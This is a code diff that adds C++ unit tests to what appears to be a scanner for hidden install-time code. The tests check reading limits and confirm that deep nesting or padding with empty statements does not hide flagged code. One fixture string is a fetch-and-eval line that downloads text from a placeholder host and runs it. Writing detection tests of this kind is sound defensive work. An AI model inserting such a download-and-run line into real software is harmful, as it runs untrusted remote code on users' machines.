@@ -102,6 +102,14 @@ TEST(CodeFacts, EachFlagAndItsTwin) {
   }
 }
 
+// A long text that a name stands for is read at every use of the name, up to a limit that is told.
+TEST(CodeFacts, LongTextsByWayOfNamesHaveALimit) {
+  const std::string code = "const a = '" + repeated("x y/", 400) + "';" + repeated("a;", 100);
+  EXPECT_EQ(read_code(code, {}, {.named_bytes = 100'000}).limit, "too_large");
+  EXPECT_TRUE(read_code(code, {}).is_complete);
+  EXPECT_TRUE(read_code("let a = 'x';" + repeated("a += a;", 10'000), {}).is_complete);
+}
+
 TEST(CodeFacts, CodeBehindBlanksIsHidden) {
   EXPECT_TRUE(has(installing("a();" + std::string(220, ' ') + "b();").peek(), FlagKind::hidden_by_blanks));
   EXPECT_FALSE(has(installing("a();" + std::string(80, ' ') + "b();").peek(), FlagKind::hidden_by_blanks));
@@ -190,6 +198,24 @@ TEST(CodeFacts, HostileDepthEndsAndIsTold) {
       return each.reason == "too_deep";
     })) << code.substr(0, 12);
   }
+}
+
+// The limit of depth lets go of what encloses: neither what stands behind nor what stands innermost is hidden by it.
+TEST(CodeFacts, DepthAndEmptyStatementsHideNothing) {
+  const std::string drops = "fetch('https://files.example.test/s').then(r => r.text()).then(t => eval(t));";
+  const auto found = [](const std::string& code) { return has(installing(code).peek(), FlagKind::download_and_run); };
+  EXPECT_TRUE(found(repeated("[", 2'100) + repeated("]", 2'100) + ";" + drops));
+  EXPECT_TRUE(found(repeated("a=", 2'100) + "1;" + drops));
+  EXPECT_TRUE(found(repeated(";", 1'600'000) + drops));
+  EXPECT_TRUE(found(repeated("(() => {", 2'100) + drops + repeated("})()", 2'100)));
+  EXPECT_TRUE(found("`" + repeated("${`", 2'100) + repeated("`}", 2'100) + "`;" + drops));
+}
+
+TEST(CodeFacts, TheLimitThatEndedTheReadingIsTold) {
+  EXPECT_EQ(read_code(repeated("[", 2'100) + repeated("]", 2'100), {}).limit, "too_deep");
+  EXPECT_EQ(read_code("a b c d", {}, {.bytes = 100, .tokens = 2, .depth = 10}).limit, "too_many");
+  EXPECT_EQ(read_code("a b c d", {}, {.bytes = 3, .tokens = 20, .depth = 10}).limit, "too_large");
+  EXPECT_TRUE(read_code("a b c d", {}).is_complete);
 }
 
 TEST(CodeFacts, RandomBytesAreRead) {
